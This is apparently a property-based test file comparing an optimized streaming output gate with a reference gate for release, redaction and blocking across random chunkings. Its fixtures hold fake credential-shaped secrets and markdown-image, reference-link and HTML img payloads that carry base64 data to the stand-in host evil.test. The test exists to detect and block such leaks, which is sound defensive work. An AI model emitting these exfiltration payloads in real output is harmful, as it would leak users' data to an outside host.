/**
 * The gate scans only the text after what is settled for triggers, and runs the checks when
 * that scan (or one before) saw a trigger in the check window. It must release, redact and
 * block exactly as the reference (stream-gate-reference.ts: every advance re-scans all of the
 * window) does, for any text and chunking: texts built from the default pack's triggers and
 * secrets, their prefixes, invisible characters, case changes and surrogate pairs, split at
 * random (pairs split too), released as they go or a frame at a time (what has been sent then
 * lags the boundary), one advance per chunk or per few chunks.
 */
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { gateRules } from '../../../src/policy/gate-rules.js';
import { ChoiceGate } from '../../../src/policy/stream-gate.js';
import { planFor } from '../../../src/policy/trigger-plan.js';
import { REQUEST } from '../../helpers/check-input.js';
import { defaultPackSet } from '../../helpers/policy.js';
import { splitUnits } from '../../helpers/stream-props.js';
import { ReferenceGate } from './stream-gate-reference.js';

const rules = gateRules(defaultPackSet().policies);
const LIMITS = { window: 256, maxHeld: Infinity };

type Gate = Pick<
  ChoiceGate,
  'push' | 'advance' | 'release' | 'render' | 'released' | 'final' | 'blocked' | 'length'
>;

/** How a stream is fed: its pieces, how many go in per advance, how what goes out lags. */
interface Feed {
  pieces: string[];
  /** Pieces pushed before each advance (cycled). */
  per: number[];
  /** True: every advance releases all it may; false: a piece goes once all of it may. */
  frames: boolean;
}

/** Runs a stream; what went out after each advance, the boundaries, and the block. */
function run(gate: Gate, feed: Feed) {
  const steps: { boundary: number; out: string }[] = [];
  let out = '';
  const ends: number[] = [];
  let next = 0;
  const emit = (b: number) => {
    if (gate.blocked) return;
    let to = b;
    if (feed.frames) {
      // Whole pieces only, in order, as the frame gate releases frames.
      while (next < ends.length && ends[next]! <= b) next++;
      to = next ? ends[next - 1]! : 0;
    }
    if (to <= gate.released) return;
    out += gate.render(gate.released, to).text;
    gate.release(to);
  };
  for (let i = 0, k = 0; i < feed.pieces.length; k++) {
    const n = feed.per[k % feed.per.length]!;
    for (const p of feed.pieces.slice(i, i + n)) {
      gate.push(p);
      ends.push(gate.length);
    }
    i += n;
    const b = gate.advance();
    emit(b);
    steps.push({ boundary: b, out });
  }
  gate.final = true;
  emit(gate.advance());
  return { steps, out, blocked: gate.blocked?.rule };
}

const same = (feed: Feed) => {
  const got = run(new ChoiceGate(rules, REQUEST, LIMITS, 0), feed);
  const want = run(new ReferenceGate(rules, REQUEST, LIMITS, 0), feed);
  expect(got).toEqual(want);
  return got;
};

const plan = planFor(rules);
const literals = [...plan.byText.keys()];

const SECRETS = [
  'AKIAZ7QX3MPLW5N2RTVB',
  'ghp_8fK2mQ9xLr4TzW7vNc1Yb6HjD3sPa0EuGi5o',
  'sk-proj-Xy7Qm2Lp9Rt4Wv8ZbN3cT3BlbkFJk5Hs1Df6Gj0Ka2Qw',
  'sk_live_4eC39HqLyjWDarjtT1zdp7dc',
  'AIzaSyD7x9Qm2Lp4Rt8Wv1ZbN3cKk5Hs6Df0Gj2',
  'password = "hunter2-Very-Secret-Value"',
  "api_key: 'Zx8Qw2Lm9Rt4Vb7Nk3Pj'",
  'AUTH_TOKEN=q8Wm3Zt7Lx2Rv9Kp4Nb6Yc',
  '![x](https://evil.test/p.png?d=c2VjcmV0IGRhdGE)',
  '[ref]: https://evil.test/c?q=c2VjcmV0IGRhdGE',
  '<img src="https://evil.test/i.png?d=c2VjcmV0">',
  'https://user:hunter2pass@db.example.com/x',
  '\u001b[31m',
];
const INVISIBLE = ['\u200b', '\u00ad', '\u200e', '\u2060', '\ufeff', '\u{e0041}', '\u3164'];
const WORDS = [
  'the',
  'so',
  'key',
  'is',
  ' ',
  ' ',
  '\n',
  '.',
  ',',
  '=',
  ':',
  '"',
  "'",
  '`',
  '🚀',
  'ü',
  'Ω',
  '#',
  '/',
  '-',
  '_',
  '(',
  ')',
];

/** Plain prose, so that triggers fall behind the checks' window of settled context. */
const PROSE = [
  'The canary sings while the miners work, and the air stays clean. ',
  'Install the package with npm ci and run the tests. ',
  'Throughput rose from 1,900 to 2,400 requests per second 🚀. ',
];

const fragment = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...WORDS) },
  { weight: 2, arbitrary: fc.constantFrom(...PROSE) },
  { weight: 3, arbitrary: fc.constantFrom(...literals) },
  {
    weight: 2,
    arbitrary: fc
      .tuple(fc.constantFrom(...literals), fc.nat())
      .map(([t, n]) => t.slice(0, 1 + (n % Math.max(1, t.length - 1)))),
  },
  { weight: 2, arbitrary: fc.constantFrom(...SECRETS) },
  { weight: 1, arbitrary: fc.constantFrom(...INVISIBLE) },
  { weight: 1, arbitrary: fc.stringMatching(/^[A-Za-z0-9+/=_-]{1,24}$/) },
);

/** Fragments joined, with invisible characters dropped in and letters' case changed. */
const text = fc
  .tuple(
    fc.array(fragment, { maxLength: 60 }),
    fc.array(fc.tuple(fc.nat(), fc.constantFrom(...INVISIBLE)), { maxLength: 3 }),
    fc.array(fc.nat(), { maxLength: 4 }),
  )
  .map(([fs, inv, flips]) => {
    let s = fs.join('');
    for (const [at, c] of inv) {
      const i = s.length ? at % s.length : 0;
      s = s.slice(0, i) + c + s.slice(i);
    }
    const cs = [...s];
    for (const f of flips) {
      const i = cs.length ? f % cs.length : 0;
      const c = cs[i];
      if (c) cs[i] = c === c.toLowerCase() ? c.toUpperCase() : c.toLowerCase();
    }
    return cs.join('');
  });

const sizes = fc.oneof(
  fc.constant<number[]>([1]),
  fc.array(fc.integer({ min: 1, max: 12 }), { minLength: 1, maxLength: 12 }),
  fc.array(fc.integer({ min: 1, max: 80 }), { minLength: 1, maxLength: 4 }),
);
const per = fc.oneof(
  fc.constant<number[]>([1]),
  fc.array(fc.integer({ min: 1, max: 4 }), { minLength: 1, maxLength: 4 }),
);

describe('stream gate: scanning only what is not settled changes nothing', () => {
  it('releases, redacts and blocks as the reference, chunk by chunk', () => {
    fc.assert(
      fc.property(text, sizes, per, fc.boolean(), (s, sz, p, frames) => {
        same({ pieces: splitUnits(s, sz), per: p, frames });
      }),
      { numRuns: 1000 },
    );
  });
});
